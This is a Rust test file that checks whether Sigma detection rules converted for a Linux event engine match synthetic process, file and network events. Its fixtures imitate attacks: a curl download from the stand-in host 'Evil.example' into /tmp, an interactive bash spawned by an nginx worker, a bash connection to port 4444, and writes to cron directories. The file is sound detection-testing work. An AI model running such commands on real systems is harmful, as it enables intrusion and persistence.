//! Rules for Linux and events: what a Sigma rule's words say must be what the converted rule decides.
#![expect(clippy::panic, reason = "tests fail by panicking")]

use std::sync::Arc;

use fargard_model::{
    Arg, Container, Event, EventType, Fd, Outcome, Process, Source, Task, Timestamp, event::ArgValue,
};
use fargard_rules::{Ruleset, SourceFile, load};
use fargard_sigma::{import, yaml};

/// A process start: executable, argv, the parent's executable and argv.
type Start = (&'static str, &'static [&'static str], &'static str, &'static [&'static str]);

fn process(path: &str, argv: &[&str]) -> Process {
    let name = path.rsplit('/').next().unwrap_or_default();
    Process {
        pid: 7,
        vpid: 7,
        name: name.into(),
        exe: argv.first().copied().unwrap_or_default().into(),
        exepath: path.into(),
        args: argv.iter().skip(1).map(|arg| (*arg).into()).collect(),
        cwd: "/Tmp/x/".into(),
        ..Process::default()
    }
}

fn event(kind: EventType, process: Process) -> Event {
    Event {
        num: 1,
        time: Timestamp(1),
        source: Source::Syscall,
        kind,
        tid: 7,
        process: Arc::new(process),
        args: Vec::new(),
        paths: Vec::new(),
        fd: None,
        outcome: Outcome::Confirmed(0),
        evidence: fargard_model::Evidence::default(),
        task: Arc::new(Task::default()),
        container: Arc::new(Container::default()),
    }
}

fn start((path, argv, parent_path, parent_argv): Start) -> Event {
    let mut process = process(path, argv);
    if !parent_path.is_empty() {
        process.parent = Some(Arc::new(self::process(parent_path, parent_argv)));
    }
    event(EventType::Execve, process)
}

/// The rule with this detection, converted and loaded.
fn ruleset(category: &str, detection: &str) -> Ruleset {
    let text = format!(
        "title: t\nlogsource: {{product: linux, category: {category}}}\ndetection:\n    {}\n",
        detection.replace('\n', "\n    ")
    );
    let import = import(&[SourceFile { name: "t.yml".into(), text }]);
    assert!(import.problems.is_empty(), "{detection}\n{:?}", import.problems);
    let loaded = load(&[SourceFile { name: "t.yaml".into(), text: yaml(&import) }]);
    loaded.ruleset.unwrap_or_else(|| panic!("{:?}", loaded.diagnostics))
}

fn matches(ruleset: &Ruleset, event: &Event) -> bool {
    let mut found = Vec::new();
    ruleset.evaluate(event, &mut found);
    !found.is_empty()
}

const CURL: Start = (
    "/usr/bin/curl",
    &["curl", "-o", "/tmp/X", "http://Evil.example/a?b=*"],
    "/bin/sh",
    &["sh", "-c", "curl"],
);
const SHELL: Start = ("/bin/bash", &["/bin/bash", "-i"], "/usr/sbin/nginx", &["nginx:", "worker"]);
const ORPHAN: Start = ("/bin/sh", &["sh"], "", &[]);

#[test]
fn selections_of_one_field() {
    for (selection, curl, shell, orphan) in [
        ("Image: /usr/bin/curl", true, false, false),
        ("Image: /USR/bin/CURL", true, false, false),
        ("Image|cased: /USR/bin/CURL", false, false, false),
        ("Image: curl", false, false, false),
        ("Image: '*/CURL'", true, false, false),
        ("Image|endswith: /curl", true, false, false),
        ("Image|endswith: [/CURL, /bash]", true, true, false),
        ("Image|cased|endswith: [/CURL, /bash]", false, true, false),
        ("Image|startswith: /usr/", true, false, false),
        ("Image: [/bin/bash, /bin/sh]", false, true, true),
        ("Image: ['/bin/*', x]", false, true, true),
        ("Image: '/usr/*/c?rl'", true, false, false),
        ("Image: '/???/*sh'", false, true, true),
        ("Image: '*'", true, true, true),
        ("CommandLine|contains: EVIL", true, false, false),
        ("CommandLine|cased|contains: EVIL", false, false, false),
        ("CommandLine|contains|all: [evil, ' -o ']", true, false, false),
        ("CommandLine|contains|all: [evil, ' -x ']", false, false, false),
        ("CommandLine|startswith: 'curl -o'", true, false, false),
        ("CommandLine|startswith: '/bin/bash -'", false, true, false),
        (r"CommandLine|endswith: '\*'", true, false, false),
        (r"CommandLine|endswith: '\?b=\*'", true, false, false),
        (r"CommandLine|contains: 'a\?b'", true, false, false),
        (r"CommandLine: '*a\*b*'", false, false, false),
        ("CommandLine: sh", false, false, true),
        ("CommandLine: ''", false, false, false),
        (r"CommandLine|re: 'http://\w+\.\w+/'", true, false, false),
        (r"CommandLine|re: '^http://'", false, false, false),
        (r"CommandLine|re: 'EVIL'", false, false, false),
        (r"CommandLine|re|i: 'EVIL'", true, false, false),
        (r"CommandLine|re: '(?i)eVil\.[e-f]'", true, false, false),
        (r"CommandLine|re: '^(curl|sh)(\s.*)?$'", true, false, true),
        ("CommandLine|windash|contains: ' /o '", true, false, false),
        ("CommandLine|windash|contains|all: [' /o ', 'curl']", true, false, false),
        ("ParentImage: null", false, false, true),
        ("ParentImage: [null, /bin/sh]", true, false, true),
        ("ParentImage|exists: true", true, true, false),
        ("ParentImage|exists: false", false, false, true),
        ("ParentImage|neq: /bin/sh", false, true, true),
        ("ParentCommandLine|contains: worker", false, true, false),
        ("Image|fieldref: ParentImage", false, false, false),
        ("CommandLine|fieldref|startswith: Image", false, true, false),
        ("ProcessId: 7", true, true, true),
        ("ProcessId: [8, 9]", false, false, false),
        ("ProcessId|gt: 6", true, true, true),
        ("ProcessId|lte: 6", false, false, false),
        ("CurrentDirectory|startswith: /tmp", true, true, true),
        ("CurrentDirectory|cased|startswith: /tmp", false, false, false),
    ] {
        let ruleset = ruleset("process_creation", &format!("a:\n    {selection}\ncondition: a"));
        let verdicts = [CURL, SHELL, ORPHAN].map(|start| matches(&ruleset, &self::start(start)));
        assert_eq!(verdicts, [curl, shell, orphan], "{selection}");
    }
}

#[test]
fn conditions_over_selections() {
    let selections = "curl: {Image|endswith: /curl}\nbash: {Image|endswith: /bash}\n\
        none: {ParentImage: null}\nfilter_a: {User: nobody}\nfilter_b: {ParentImage|endswith: /nginx}\n\
        two: {Image|startswith: /bin/, CommandLine|contains: '-i'}\nlist: [{Image: /bin/sh}, {Image: /usr/bin/curl}]\n\
        _unused: {Image: /x}\n";
    for (condition, curl, shell, orphan) in [
        ("curl or bash", true, true, false),
        ("curl and bash", false, false, false),
        ("not curl", false, true, true),
        ("not (curl or bash)", false, false, true),
        ("not curl and not bash", false, false, true),
        ("not not curl", true, false, false),
        ("1 of filter_*", false, true, false),
        ("bash and not 1 of filter_*", false, false, false),
        ("all of filter_*", false, false, false),
        ("not all of filter_*", true, true, true),
        ("1 of them", true, true, true),
        ("all of them", false, false, false),
        ("any of *u*", true, false, false),
        ("two", false, true, false),
        ("list and not none", true, false, false),
        ("curl or bash and none", true, false, false),
        ("(curl or none) and list", true, false, true),
    ] {
        let ruleset = ruleset("process_creation", &format!("{selections}condition: {condition}"));
        let verdicts = [CURL, SHELL, ORPHAN].map(|start| matches(&ruleset, &self::start(start)));
        assert_eq!(verdicts, [curl, shell, orphan], "{condition}");
    }
}

#[test]
fn other_calls_of_a_process_are_no_start() {
    let ruleset = ruleset("process_creation", "a: {Image: '*'}\ncondition: a");
    assert!(!matches(&ruleset, &event(EventType::Unlink, process("/bin/rm", &["rm"]))));
}

#[test]
fn files_are_those_opened_for_writing() {
    let ruleset = ruleset("file_event", "a: {TargetFilename|startswith: /ETC/cron.}\ncondition: a");
    let open = |path: &str, bits: u64| {
        let mut event = event(EventType::Openat, process("/bin/sh", &["sh"]));
        event.args.push(Arg { name: "flags".into(), value: ArgValue::Flags(bits, "".into()) });
        event.fd = Some(Fd { num: 3, typechar: Some('f'), name: path.into(), ..Fd::default() });
        event
    };
    assert!(matches(&ruleset, &open("/etc/cron.d/x", 0o101)));
    assert!(!matches(&ruleset, &open("/etc/cron.d/x", 0)));
    assert!(!matches(&ruleset, &open("/etc/passwd", 0o101)));
}

#[test]
fn connections_have_two_ends() {
    let connection = |kind: EventType, local: &str, remote: &str| {
        let mut event = event(kind, process("/bin/bash", &["bash"]));
        event.fd = Some(Fd {
            num: 3,
            typechar: Some('4'),
            local: local.parse().ok(),
            remote: remote.parse().ok(),
            client: Some(kind == EventType::Connect),
            l4proto: Some("tcp".into()),
            ..Fd::default()
        });
        event
    };
    let out = connection(EventType::Connect, "10.0.0.5:40000", "192.0.2.7:4444");
    let inward = connection(EventType::Accept4, "10.0.0.5:8080", "192.0.2.7:50000");
    for (selection, connects, accepts) in [
        ("DestinationIp: 192.0.2.7", true, false),
        ("DestinationIp|cidr: 192.0.2.0/24", true, false),
        ("DestinationIp|cidr: [192.0.2.0/24, 10.0.0.0/8]", true, true),
        ("DestinationPort: [4444, 8080]", true, true),
        ("DestinationPort: 4444", true, false),
        ("SourceIp: 10.0.0.5", true, false),
        ("SourcePort: 50000", false, true),
        ("Protocol: TCP", true, true),
        ("Initiated: 'true'", true, false),
        ("Initiated: false", false, true),
        ("Image|endswith: /bash", true, true),
    ] {
        let ruleset = ruleset("network_connection", &format!("a: {{{selection}}}\ncondition: a"));
        assert_eq!([matches(&ruleset, &out), matches(&ruleset, &inward)], [connects, accepts], "{selection}");
    }
}
